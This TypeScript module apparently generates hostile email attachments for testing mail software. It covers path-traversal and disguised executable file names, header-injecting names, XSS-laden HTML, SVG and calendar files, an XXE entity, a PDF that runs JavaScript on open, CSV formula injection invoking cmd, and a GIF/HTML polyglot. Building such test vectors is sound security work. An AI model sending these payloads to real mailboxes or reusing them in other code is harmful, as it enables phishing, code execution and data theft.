import { base64, type Aim } from "./vector";

/** A file that comes with a mail: what it tries, its part's header, and its bytes. */
export type FileVector = [name: string, head: string, content: (aim: Aim) => string | Buffer];

const PAGE = ({ run, url }: Aim) => `<!doctype html><script>${run}</script><img src="${url}" onerror="${run}">`;
const SVG = ({ run, url }: Aim) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${url}"/><script>${run}</script></svg>`;
const NOTHING = () => "Hi";
const named = (type: string, fileName: string) =>
  `Content-Type: ${type}; name="${fileName}"\nContent-Disposition: attachment; filename="${fileName}"`;
const inWord = (type: string, fileName: string) =>
  `Content-Type: ${type}\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(fileName)}`;

/** Names that lead out of a folder, lie about what they are or break out of a header, and contents that could run. */
export const FILES: FileVector[] = [
  ["a path", named("text/plain", "../../../../etc/cron.d/h{n}"), NOTHING],
  ["a path of Windows", named("text/plain", "..\\\\..\\\\Windows\\\\win.ini"), NOTHING],
  ["a path from the root", inWord("text/plain", "/etc/passwd"), NOTHING],
  ["a drive and a stream", inWord("text/plain", "C:h.txt:evil.exe:$DATA"), NOTHING],
  ["a path in escapes", named("text/plain", "%2e%2e%2f%2e%2e%2fh{n}.txt"), NOTHING],
  ["a name that runs backwards", inWord("application/octet-stream", "invoice\u202efdp.exe"), NOTHING],
  [
    "a name with marks that nobody sees",
    inWord("application/octet-stream", "invoice\u200b.pdf\u2066\u200f.exe\u2069"),
    NOTHING,
  ],
  ["two endings", named("application/pdf", "invoice.pdf.exe"), NOTHING],
  ["an ending far away", inWord("application/octet-stream", `invoice.pdf${" ".repeat(150)}.exe`), NOTHING],
  ["a name with line breaks", inWord("text/plain", "a\r\nContent-Type: text/html\r\n\r\n<script>.txt"), NOTHING],
  ["a name with NUL", inWord("text/plain", "a.txt\u0000.exe"), NOTHING],
  ["a name that is a device", named("text/plain", "CON"), NOTHING],
  ["a name that is a device with an ending", named("text/plain", "LPT1.txt"), NOTHING],
  ["a name that hides", named("text/plain", ".htaccess"), NOTHING],
  ["a name that is dots", named("text/plain", ".. . ..."), NOTHING],
  ["a name that is a tag", inWord("text/plain", "<img src=x onerror=alert(1)>.txt"), NOTHING],
  ["a name that breaks out of an attribute", inWord("text/plain", `"onmouseover="alert(1)".txt`), NOTHING],
  ["a name that breaks out of its header", inWord("text/plain", `a"; filename="b.exe`), NOTHING],
  ["a name without end", inWord("text/plain", `${"a".repeat(5_000)}.txt`), NOTHING],
  ["a name of none but marks", inWord("text/plain", "\u202e\u200b\u0301.txt"), NOTHING],
  ["a page", named("text/html", "invoice.html"), PAGE],
  ["a page that says it is text", named("text/plain", "invoice.htm"), PAGE],
  ["a page that says it is a picture", named("image/png", "photo.png"), PAGE],
  ["a page of no type", named("application/octet-stream", "invoice.shtml"), PAGE],
  [
    "a page that is shown in the words",
    `Content-Type: text/html\nContent-Disposition: inline; filename="a.html"`,
    PAGE,
  ],
  [
    "XHTML",
    named("application/xhtml+xml", "a.xhtml"),
    ({ run }) => `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
  ],
  [
    "XML with a sheet",
    named("text/xml", "a.xml"),
    ({ url, run }) =>
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${url}"?><!DOCTYPE a [<!ENTITY x SYSTEM "${url}">]><a xmlns:h="http://www.w3.org/1999/xhtml">&x;<h:script>${run}</h:script></a>`,
  ],
  [
    "an archive of a page",
    named("application/x-mimearchive", "a.mht"),
    ({ run }) => `Content-Type: text/html\n\n<script>${run}</script>`,
  ],
  ["an SVG", named("image/svg+xml", "logo.svg"), SVG],
  ["an SVG that says it is a picture", named("image/png", "logo.png"), SVG],
  [
    "an SVG in capitals with a parameter",
    `Content-Type: IMAGE/SVG+XML; charset=utf-8; name="a.SVG"\nContent-ID: <svg.h{n}>`,
    SVG,
  ],
  [
    "a PDF with a script",
    named("application/pdf", "offer.pdf"),
    ({ url, run }) =>
      `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${run.replaceAll(/[()]/g, "\\$&")};app.launchURL\\("${url}"\\))>>/AA<</WC<</S/URI/URI(${url})>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(${url})>>>>]>>endobj\ntrailer<</Root 1 0 R>>`,
  ],
  ["a PDF that is a page", named("application/pdf", "page.pdf"), PAGE],
  ["a script", named("text/javascript", "a.js"), ({ run }) => run],
  [
    "a shortcut to the web",
    named("application/internet-shortcut", "Offer.url"),
    ({ url }) => `[InternetShortcut]\r\nURL=${url}\r\nIconFile=${url}\r\n`,
  ],
  [
    "a shortcut of Windows",
    named("application/x-ms-shortcut", "Offer.pdf.lnk"),
    () => Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
  ],
  [
    "a shortcut of Linux",
    named("application/x-desktop", "Offer.desktop"),
    () => "[Desktop Entry]\nType=Application\nExec=xterm\n",
  ],
  [
    "a meeting",
    `Content-Type: text/calendar; method=REQUEST; name="a.ics"\nContent-Disposition: attachment; filename="a.ics"`,
    ({ url, run, n }) =>
      `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:h${n}\r\nDTSTART:20300101T100000Z\r\nSUMMARY:<img src=${url} onerror=${run}>\r\nLOCATION:javascript:${run}\r\nURL:javascript:${run}\r\nDESCRIPTION:<script>${run}</script>\r\nORGANIZER;CN="<script>${run}</script>":mailto:h${n}@evil.test\r\nIMAGE;VALUE=URI:${url}\r\nATTACH:${url}\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT1M\r\nATTACH:${url}\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
  ],
  [
    "a table of formulas",
    named("text/csv", "a.csv"),
    ({ url, run }) => `=HYPERLINK("${url}"),=cmd|' /C calc'!A0\n<img src=${url} onerror=${run}>,@SUM(1)\n`,
  ],
  [
    "an enclosed mail",
    named("message/rfc822", "a.eml"),
    (aim) => `From: a@evil.test\r\nSubject: ../<b>\r\nContent-Type: text/html\r\n\r\n${PAGE(aim)}`,
  ],
  [
    "a type that is a script",
    `Content-Type: text/html,<script>; name="a.html"\nContent-Disposition: attachment; filename="a.html"`,
    PAGE,
  ],
  [
    "a picture that is one and a page as well",
    named("image/gif", "both.gif"),
    (aim) => Buffer.concat([Buffer.from("R0lGODlhAQABAAAAACw=", "base64"), Buffer.from(PAGE(aim))]),
  ],
];

/** A file's part of a mail, its lines ended as the mail's. */
export const partOf = ([, head, content]: FileVector, aim: Aim): string =>
  `${head.replaceAll("{n}", String(aim.n))}\nContent-Transfer-Encoding: base64\n\n${base64(content(aim)).replaceAll(/.{76}/g, "$&\n")}`;
